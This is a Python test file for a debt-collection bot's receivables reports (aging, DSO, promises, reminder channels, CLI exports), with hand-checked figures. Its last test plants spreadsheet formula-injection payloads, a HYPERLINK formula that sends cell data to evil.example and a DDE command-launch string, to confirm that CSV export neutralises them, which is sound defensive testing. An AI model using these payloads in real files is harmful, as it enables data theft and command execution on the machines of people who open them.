"""Every report on the fixed portfolio (tests/support/report_portfolio.py), figures checked by hand.

As of 2026-03-31 unless said otherwise. Amounts in jt (juta, million rupiah) in comments.
Each test runs on SQLite and on PostgreSQL through the `db` fixture.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import json
import shutil
import struct
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import typer
from sqlmodel import select
from typer.testing import CliRunner, Result

from bot.cli.report import report_command
from bot.config import load_settings
from storage.db import Database
from storage.models import Customer, Staff
from storage.reports import (
    AgingLine,
    Filters,
    ReportName,
    ReportOptions,
    build_report,
    countback,
    json_of,
    rank_lines,
)
from storage.reports.dso import month_back, windows
from tests.support.report_portfolio import AS_OF, WIB, build_portfolio


async def report(db: Database, name: ReportName, **options: Any) -> Any:
    """Build the portfolio, run one report, return its JSON."""
    await build_portfolio(db)
    options.setdefault("as_of", AS_OF)
    async with db.transaction() as session:
        results = await build_report(session, name, ReportOptions(zone=WIB, **options))
    return json_of(results)


async def test_aging(db: Database) -> None:
    idr, usd = await report(db, ReportName.AGING)
    assert idr == {
        "as_of": "2026-03-31",
        "currency": "IDR",
        # 4.2 + 1.5 + 3.5 + 5.0 + 9.0 = 23.2 jt
        "total": 23_200_000,
        "buckets": {
            "current": 4_200_000,  # INV-3 3.0 (due 04-09) + INV-13 1.2 (due 04-19)
            "1-30": 1_500_000,  # INV-2 2.0 less 0.5 paid 03-25, 11 days late
            "31-60": 3_500_000,  # INV-5 2.0 (55 days) + INV-9 1.5 (due 01-30: 60 days)
            "61-90": 5_000_000,  # INV-1
            "90+": 9_000_000,  # INV-4 4.0 (120 days, disputed) + INV-7 5.0 (137 days)
        },
        "customers": [
            # INV-1 5.0 due 2026-01-15 is 75 days late → 61-90; the 1.0 paid on 2026-04-02
            # is after the as-of date, so it still counts. INV-P1 was paid in full in 2025.
            {
                "customer": "C001",
                "total": 9_500_000,
                "buckets": {
                    "current": 3_000_000,
                    "1-30": 1_500_000,
                    "31-60": 0,
                    "61-90": 5_000_000,
                    "90+": 0,
                },
            },
            # INV-7 6.0 less 1.0 paid 02-10; INV-9 1.5 paid only on 04-10 (after the date);
            # INV-8 is written off: not counted.
            {
                "customer": "C003",
                "total": 6_500_000,
                "buckets": {
                    "current": 0,
                    "1-30": 0,
                    "31-60": 1_500_000,
                    "61-90": 0,
                    "90+": 5_000_000,
                },
            },
            # INV-4 is disputed, still owed: counted. INV-6 is issued on 04-05: not yet there.
            {
                "customer": "C002",
                "total": 6_000_000,
                "buckets": {
                    "current": 0,
                    "1-30": 0,
                    "31-60": 2_000_000,
                    "61-90": 0,
                    "90+": 4_000_000,
                },
            },
            {
                "customer": "C005",
                "total": 1_200_000,
                "buckets": {"current": 1_200_000, "1-30": 0, "31-60": 0, "61-90": 0, "90+": 0},
            },
        ],
    }
    # USD stays apart: U1 1,250.50 is 50 days late; U2 2,000 less 500 paid 03-15 is exactly
    # 90 days late (due 2025-12-31) → 61-90; U3 300 is not yet due. Cents make it a float.
    assert usd["currency"] == "USD"
    assert usd["total"] == 3050.5
    assert usd["buckets"] == {"current": 300, "1-30": 0, "31-60": 1250.5, "61-90": 1500, "90+": 0}
    assert [c["customer"] for c in usd["customers"]] == ["C004"]


async def test_aging_tables_say_disputed_and_filters(db: Database) -> None:
    await build_portfolio(db)
    async with db.transaction() as session:
        options = ReportOptions(as_of=AS_OF, zone=WIB)
        idr = (await build_report(session, ReportName.AGING, options))[0]
        table = idr.tables()[0]
        assert any("INV-4 (C002)" in note for note in table.notes)
        assert table.total is not None and table.total[-1] == Decimal("4000000.00")
        # The invoice's own salesperson wins: INV-4 (customer C002 is Citra's) is Budi's.
        budi = ReportOptions(as_of=AS_OF, filters=Filters(salesperson="budi"))
        (only,) = await build_report(session, ReportName.AGING, budi)
        totals = {c["customer"]: c["total"] for c in only.to_json()["customers"]}  # type: ignore[attr-defined]
        assert totals == {"C001": 9_500_000, "C003": 6_500_000, "C002": 4_000_000}
        # Joko collects C003 (IDR) and C004 (USD); --currency keeps one report.
        joko = Filters(collector="Joko", currency="usd")
        (usd,) = await build_report(session, ReportName.AGING, ReportOptions(AS_OF, filters=joko))
        assert usd.to_json()["total"] == 3050.5
        # Two weeks later INV-9 is paid and INV-6 is issued (not yet due).
        later = ReportOptions(as_of=dt.date(2026, 4, 15), filters=Filters(segment="Retail"))
        (retail,) = (await build_report(session, ReportName.AGING, later))[:1]
        totals = {c["customer"]: c["total"] for c in retail.to_json()["customers"]}  # type: ignore[attr-defined]
        # C001: INV-1 now 4.0 (1.0 paid 04-02) + INV-2 1.5 + INV-3 3.0; C003: INV-7 only.
        assert totals == {"C001": 8_500_000, "C003": 5_000_000}


async def test_sales_ranking(db: Database) -> None:
    idr, usd = await report(db, ReportName.SALES)
    people = {s["salesperson"]: s for s in idr["salespeople"]}
    # Budi: C001 and C003 are his, and INV-4 names him although C002 is Citra's.
    # 60+ = INV-1 5.0 + INV-4 4.0 + INV-7 5.0 = 14.0 of 20.0 → 0.7.
    assert people["Budi"]["total"] == 20_000_000
    assert people["Budi"]["buckets"]["90+"] == 9_000_000
    assert people["Budi"]["share_60_plus"] == 0.7
    # Citra: INV-5 2.0 (31-60) + INV-13 1.2 (current): nothing past 60 days → rank 1.
    assert people["Citra"] == {
        "salesperson": "Citra",
        "total": 3_200_000,
        "buckets": {"current": 1_200_000, "1-30": 0, "31-60": 2_000_000, "61-90": 0, "90+": 0},
        "share_60_plus": 0.0,
        "rank": 1,
    }
    assert people["Budi"]["rank"] == 2
    assert idr["total"] == 23_200_000
    # USD: Citra alone, 1,500 of 3,050.50 is 61-90 → 0.4917.
    assert [(s["salesperson"], s["share_60_plus"]) for s in usd["salespeople"]] == [
        ("Citra", 0.4917)
    ]


def test_rank_ties_go_to_the_larger_book() -> None:
    def line(name: str, current: int, late: int) -> AgingLine:
        aging = AgingLine(name)
        aging.buckets["current"] += Decimal(current)
        aging.buckets["90+"] += Decimal(late)
        return aging

    # Ana and Eko are both at 0 % late: the larger book (Eko) ranks first; Dewi 50 % last.
    ranked = rank_lines([line("Ana", 100, 0), line("Dewi", 100, 100), line("Eko", 300, 0)])
    assert [(r.salesperson, r.rank, r.share_60_plus) for r in ranked] == [
        ("Eko", 1, 0.0),
        ("Ana", 2, 0.0),
        ("Dewi", 3, 0.5),
    ]


async def test_late_analysis(db: Database) -> None:
    idr, usd = await report(db, ReportName.LATE_ANALYSIS)
    # Over 60 days: INV-7 (137 d, 5.0), INV-4 (120 d, 4.0, disputed), INV-1 (75 d, 5.0).
    # INV-9 is exactly 60 days late: not "more than 60". Total 14.0 jt.
    assert [(i["invoice"], i["days_late"]) for i in idr["invoices"]] == [
        ("INV-7", 137),
        ("INV-4", 120),
        ("INV-1", 75),
    ]
    assert (idr["count"], idr["total"]) == (3, 14_000_000)
    groups = {
        k: [(g["key"], g["count"], g["amount"], g["share"]) for g in v]
        for k, v in idr["groups"].items()
    }
    # All three are Budi's (INV-4 by its own salesperson): what they have in common.
    assert groups["salesperson"] == [("Budi", 3, 14_000_000, 1.0)]
    # Semen: INV-7 + INV-1 = 10.0 / 14.0 = 0.7143; Besi: INV-4 4.0 / 14.0 = 0.2857.
    assert groups["item"] == [("Semen", 2, 10_000_000, 0.7143), ("Besi", 1, 4_000_000, 0.2857)]
    # 5.0 / 14.0 = 0.3571 each for C001 and C003 (ties by code), C002 4.0.
    assert groups["customer"] == [
        ("C001", 1, 5_000_000, 0.3571),
        ("C003", 1, 5_000_000, 0.3571),
        ("C002", 1, 4_000_000, 0.2857),
    ]
    assert groups["segment"] == [
        ("retail", 2, 10_000_000, 0.7143),
        ("horeca", 1, 4_000_000, 0.2857),
    ]
    # USD: U2 1,500 at exactly 90 days.
    assert [(i["invoice"], i["days_late"], i["amount"]) for i in usd["invoices"]] == [
        ("INV-U2", 90, 1500)
    ]


def test_countback_worked_example() -> None:
    # The docstring's example: R = 150 on 2026-03-31; March sold 100 → 31 days, 50 left;
    # February sold 100 → 50/100 x 28 = 14 days; DSO 45.0.
    sales = [(dt.date(2026, 3, 10), Decimal(100)), (dt.date(2026, 2, 3), Decimal(100))]
    result = countback(as_of=AS_OF, days=90, receivables=Decimal(150), sales=sales)
    assert result.dso == Decimal(45)
    assert not result.capped
    assert [(m.first, m.last, m.counted) for m in result.months] == [
        (dt.date(2026, 3, 1), dt.date(2026, 3, 31), Decimal(31)),
        (dt.date(2026, 2, 1), dt.date(2026, 2, 28), Decimal(14)),
    ]


def test_month_windows() -> None:
    # Month ends stay month ends; other days clamp (03-30 → 02-28, not 03-02).
    assert month_back(dt.date(2026, 3, 31), 1) == dt.date(2026, 2, 28)
    assert month_back(dt.date(2026, 2, 28), 1) == dt.date(2026, 1, 31)
    assert month_back(dt.date(2026, 3, 30), 1) == dt.date(2026, 2, 28)
    assert month_back(dt.date(2026, 1, 15), 2) == dt.date(2025, 11, 15)
    # Mid-month as-of: windows run 02-16..03-15 and so on; 40 days cut the second one short.
    assert windows(dt.date(2026, 3, 15), 40) == [
        (dt.date(2026, 2, 16), dt.date(2026, 3, 15)),
        (dt.date(2026, 2, 4), dt.date(2026, 2, 15)),
    ]


async def test_dso(db: Database) -> None:
    idr, usd = await report(db, ReportName.DSO, days=180)
    # R = 23.2 jt (the aging total). Sales by issue date, all invoices whatever their fate:
    # Mar 4.2 (INV-3, INV-13) → 31 d, 19.0 left; Feb 3.6 (INV-2, -11, -12) → 28 d, 15.4;
    # Jan 5.8 (INV-5, -P2, -9, -10) → 31 d, 9.6; Dec 5.0 (INV-1) → 31 d, 4.6;
    # Nov 4.0 (INV-4) → 30 d, 0.6; the 180-day period starts on 2025-10-03, so October is
    # 03..31 (29 d) with INV-7 6.0 (INV-P1 of 10-01 is outside): 0.6 / 6.0 x 29 = 2.9 d.
    # DSO = 31 + 28 + 31 + 31 + 30 + 2.9 = 153.9.
    assert idr["dso"] == 153.9 and idr["capped"] is False
    assert [(m["first"], m["days"], m["sales"], m["counted_days"]) for m in idr["months"]] == [
        ("2026-03-01", 31, 4_200_000, 31.0),
        ("2026-02-01", 28, 3_600_000, 28.0),
        ("2026-01-01", 31, 5_800_000, 31.0),
        ("2025-12-01", 31, 5_000_000, 31.0),
        ("2025-11-01", 30, 4_000_000, 30.0),
        ("2025-10-03", 29, 6_000_000, 2.9),
    ]
    # USD: R = 3,050.50; Mar 300 → 31 d; Feb nothing → 28 d; Jan 1,250.50 → 31 d, 1,500
    # left; Dec 2,000 (U2) → 1,500 / 2,000 x 31 = 23.25 d. 113.25 rounds half up to 113.3.
    assert usd["dso"] == 113.3


async def test_dso_capped_at_the_period(db: Database) -> None:
    idr, _ = await report(db, ReportName.DSO)
    # 90 days: March, February, January explain 4.2 + 3.6 + 5.8 = 13.6 of 23.2 jt; the rest
    # is older than the period, so DSO is "more than 90".
    assert (idr["days"], idr["dso"], idr["capped"]) == (90, 90.0, True)
    assert len(idr["months"]) == 3


async def test_promises(db: Database) -> None:
    result = await report(db, ReportName.PROMISES)
    # Made by 03-31: all but C005's (04-01). C003's promise broken on 04-02 was still open
    # on 03-31. Kept: C001 03-02, C003 03-03; broken: C001 03-10, C002 03-16; open: C002
    # 03-25, C003 03-26; cancelled: C004. Kept rate 2 / (2 + 2) = 0.5.
    assert result["total"] == {
        "made": 7,
        "kept": 2,
        "broken": 2,
        "open": 2,
        "cancelled": 1,
        "kept_rate": 0.5,
    }
    by_collector = {r["collector"]: r for r in result["by_collector"]}
    # Sari (C001, C002): 4 made, 1 kept, 2 broken, 1 open → 1/3. Joko (C003, C004): 1 kept,
    # 1 open, 1 cancelled → 1/1.
    assert (by_collector["Sari"]["made"], by_collector["Sari"]["kept_rate"]) == (4, 0.3333)
    assert (by_collector["Joko"]["made"], by_collector["Joko"]["kept_rate"]) == (3, 1.0)
    by_customer = {r["customer"]: r["kept_rate"] for r in result["by_customer"]}
    # C004 has only a cancelled promise: no rate.
    assert by_customer == {"C001": 0.5, "C002": 0.0, "C003": 1.0, "C004": None}
    weeks = {w["week"]: (w["made"], w["kept"], w["broken"]) for w in result["weeks"]}
    assert list(weeks) == [
        "2026-02-09", "2026-02-16", "2026-02-23", "2026-03-02",
        "2026-03-09", "2026-03-16", "2026-03-23", "2026-03-30",
    ]  # fmt: skip
    assert weeks["2026-02-09"] == (1, 0, 0)  # C004's, made 02-10
    assert weeks["2026-03-02"] == (2, 2, 0)  # made 03-02, 03-03; kept 03-06, 03-05
    assert weeks["2026-03-16"] == (1, 0, 1)  # C002 made 03-16; C001's broken 03-16
    assert weeks["2026-03-23"] == (2, 0, 1)  # made 03-25, 03-26; C002's broken 03-23


async def test_promises_since(db: Database) -> None:
    result = await report(db, ReportName.PROMISES, since=dt.date(2026, 3, 10))
    # Made on or after 03-10: C001 03-10 (broken), C002 03-16 (broken), 03-25 (open),
    # C003 03-26 (open on 03-31).
    assert result["total"]["made"] == 4
    assert (result["total"]["broken"], result["total"]["open"]) == (2, 2)
    assert result["total"]["kept_rate"] == 0.0
    # Weeks start at the Monday of --since: made 03-10; 03-16 (and C001's broken); 03-25,
    # 03-26 (and C002's broken on 03-23); nothing yet in the as-of week.
    assert [(w["week"], w["made"], w["broken"]) for w in result["weeks"]] == [
        ("2026-03-09", 1, 0),
        ("2026-03-16", 1, 1),
        ("2026-03-23", 2, 1),
        ("2026-03-30", 0, 0),
    ]


async def test_channels(db: Database) -> None:
    result = await report(db, ReportName.CHANNELS)
    rows = {c["channel"]: c for c in result["channels"]}
    assert list(rows) == ["email", "sms", "whatsapp"]
    # WhatsApp reminders: M1 read (C001 replied 3 h later), M3 delivered (C002's message
    # came 97 h later: no reply), M5 delivered (C003 replied; paid INV-7 on 02-10, 5 days
    # later), M9 sent 03-30 (the 04-02 payment is after the as-of date). M8 (04-01) is
    # after the date and M7 is a chat message, not a reminder.
    assert rows["whatsapp"] == {
        "channel": "whatsapp",
        "reminders": 4,
        "sent": 4,
        "delivered": 3,
        "replied": 2,
        "paid_within_7_days": 1,
        "delivered_rate": 0.75,
        "reply_rate": 0.5,
        "paid_rate": 0.25,
    }
    # Email: M2 to C001 (sent, INV-2 paid 03-25, 5 days later; C001's 03-21 answer came by
    # WhatsApp, so no email reply), M6 to C005 (delivered, INV-11 paid 03-03).
    assert (rows["email"]["sent"], rows["email"]["delivered"], rows["email"]["replied"]) == (
        2,
        1,
        0,
    )
    assert rows["email"]["paid_rate"] == 1.0
    # SMS: M4 failed: a reminder, never sent, no rates.
    assert (rows["sms"]["reminders"], rows["sms"]["sent"], rows["sms"]["reply_rate"]) == (
        1,
        0,
        None,
    )


async def test_channels_since(db: Database) -> None:
    result = await report(db, ReportName.CHANNELS, since=dt.date(2026, 3, 10))
    # From 03-10 (WIB): M3 and M9 on WhatsApp, M2 by email, M4 by SMS.
    rows = {
        c["channel"]: (c["reminders"], c["replied"], c["paid_within_7_days"])
        for c in result["channels"]
    }
    assert rows == {"email": (1, 0, 1), "sms": (1, 0, 0), "whatsapp": (2, 0, 0)}


async def test_payers(db: Database) -> None:
    result = await report(db, ReportName.PAYERS)
    rows = {
        c["customer"]: (c["paid_invoices"], c["on_time_rate"], c["avg_days_late"], c["class"])
        for c in result["customers"]
    }
    assert rows == {
        # INV-P1 due 2025-10-31, paid 11-20: 20 days late, 0 % on time → habitual late.
        "C001": (1, 0.0, 20.0, "late"),
        # INV-P2 paid in two parts, the last on its due date 01-31: on time; INV-P3 due
        # 10-01, paid 12-10: 70 days late. 50 % on time, (0 + 70) / 2 = 35 days > 30 → late.
        "C002": (2, 0.5, 35.0, "late"),
        # INV-9 is paid only on 04-10; INV-8 is written off: nothing paid yet.
        "C003": (0, None, None, None),
        "C004": (0, None, None, None),
        # INV-10, -11, -12 all paid on or before their due dates: 3 of 3 → loyalty candidate.
        "C005": (3, 1.0, 0.0, "good"),
    }
    assert (result["good"], result["late"]) == (["C005"], ["C001", "C002"])


@pytest.mark.parametrize("name", list(ReportName))
async def test_every_report_has_tables(db: Database, name: ReportName) -> None:
    await build_portfolio(db)
    async with db.transaction() as session:
        results = await build_report(session, name, ReportOptions(as_of=AS_OF, zone=WIB))
    for result in results:
        for table in result.tables():
            assert table.rows
            assert all(len(row) == len(table.columns) for row in table.rows)
            assert table.total is None or len(table.total) == len(table.columns)


@pytest.fixture
def cli(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sqlite_template: Path
) -> Callable[..., Result]:
    """`tagih report …` on a SQLite file holding the portfolio, as the lead registers it."""
    monkeypatch.chdir(tmp_path)  # no stray .env
    shutil.copy(sqlite_template, tmp_path / "tagih.db")  # migrated once for the session
    url = f"sqlite+aiosqlite:///{tmp_path / 'tagih.db'}"

    async def prepare() -> None:
        db = Database(url)
        await build_portfolio(db)
        await db.dispose()

    asyncio.run(prepare())
    app = typer.Typer()

    @app.callback()
    def root() -> None:
        """Keep `report` a subcommand."""

    app.command("report")(report_command)
    settings = load_settings(database_url=url)

    def invoke(*args: str) -> Result:
        # Wide enough that rich never squeezes a money cell.
        return CliRunner().invoke(app, ["report", *args], obj=settings, env={"COLUMNS": "200"})

    return invoke


def test_cli_json(cli: Callable[..., Result]) -> None:
    result = cli("aging", "--as-of", "2026-03-31", "--json")
    assert result.exit_code == 0, result.output
    # Two currencies: a list, the business currency (IDR) first.
    idr, usd = json.loads(result.stdout)
    assert (idr["currency"], idr["total"], usd["currency"], usd["total"]) == (
        "IDR",
        23_200_000,
        "USD",
        3050.5,
    )
    # One currency: one object.
    result = cli("aging", "--as-of", "2026-03-31", "--json", "--currency", "usd")
    assert json.loads(result.stdout)["buckets"]["61-90"] == 1500
    result = cli("dso", "--as-of", "2026-03-31", "--days", "180", "--json", "--segment", "retail")
    # Retail (C001, C003): R = 16.0 jt; Mar 3.0 (INV-3) → 13.0; Feb 2.0 (INV-2) → 11.0;
    # Jan 1.5 (INV-9) → 9.5; Dec 5.0 (INV-1) → 4.5; Nov nothing → 30 d; Oct 3-31 6.0 (INV-7):
    # 4.5 / 6.0 x 29 = 21.75 d. DSO = 31 + 28 + 31 + 31 + 30 + 21.75 = 172.75 → 172.8.
    assert json.loads(result.stdout)["dso"] == 172.8


def test_cli_csv(cli: Callable[..., Result], tmp_path: Path) -> None:
    result = cli("sales", "--as-of", "2026-03-31", "--csv", str(tmp_path / "sales.csv"))
    assert result.exit_code == 0, result.output
    with (tmp_path / "sales.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    # Numbers in the currency's unit; the 60+ share of everyone is 14.0 / 23.2 = 0.6034.
    assert [",".join(row) for row in rows] == [
        "currency,rank,salesperson,current,1-30,31-60,61-90,90+,total,60+ share",
        "IDR,1,Citra,1200000,0,2000000,0,0,3200000,0.0",
        "IDR,2,Budi,3000000,1500000,1500000,5000000,9000000,20000000,0.7",
        "IDR,,TOTAL,4200000,1500000,3500000,5000000,9000000,23200000,0.6034",
        "USD,1,Citra,300,0,1250.5,1500,0,3050.5,0.4917",
        "USD,,TOTAL,300,0,1250.5,1500,0,3050.5,0.4917",
    ]


def test_cli_png(cli: Callable[..., Result], tmp_path: Path) -> None:
    for name in ("aging", "sales", "promises"):
        path = tmp_path / f"{name}.png"
        result = cli(name, "--as-of", "2026-03-31", "--png", str(path))
        assert result.exit_code == 0, result.output
        assert result.stdout.strip() == str(path)
        data = path.read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 5_000
        assert struct.unpack(">II", data[16:24]) == (1080, 1350)


def test_cli_tables_and_usage_errors(cli: Callable[..., Result]) -> None:
    result = cli("payers", "--as-of", "2026-03-31")
    assert result.exit_code == 0, result.output
    assert "C005" in result.stdout and "good" in result.stdout
    result = cli("aging", "--as-of", "2026-03-31", "--segment", "horeca", "--currency", "IDR")
    assert "Rp4.000.000" in result.stdout  # C002's disputed INV-4, named in the caption
    assert "INV-4 (C002)" in result.stdout
    assert cli("dso", "--png", "x.png").exit_code == 2  # no chart for DSO
    assert cli("aging", "--json", "--csv", "x.csv").exit_code == 2
    assert cli("aging", "--since", "2026-03-01").exit_code == 2
    assert cli("aging", "--as-of", "31/03/2026").exit_code == 2


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "=cmd|' /C calc'!A0", "@SUM(1)")


def test_cli_csv_never_hands_a_spreadsheet_a_formula(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    # Names arrive from imports: a hostile export may carry formulas in any text cell.
    async def poison() -> None:
        db = Database(f"sqlite+aiosqlite:///{tmp_path / 'tagih.db'}")
        async with db.transaction() as session:
            staff = (await session.exec(select(Staff).where(Staff.name == "Citra"))).one()
            staff.name = FORMULAS[0]
            session.add(staff)
            for customer, formula in zip(
                (await session.exec(select(Customer).order_by(Customer.code))).all(),
                FORMULAS[1:],
                strict=False,
            ):
                customer.name = formula
                session.add(customer)
        await db.dispose()

    asyncio.run(poison())
    for report in ("sales", "aging", "late-analysis"):
        path = tmp_path / f"{report}.csv"
        result = cli(report, "--as-of", "2026-03-31", "--csv", str(path))
        assert result.exit_code == 0, result.output
        with path.open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), report
        if report == "sales":
            assert "'" + FORMULAS[0] in cells
        # Negative amounts stay numbers: only text cells are neutralised.
        assert not any(
            cell.startswith("'-") and cell[2:].replace(".", "").isdigit() for cell in cells
        )
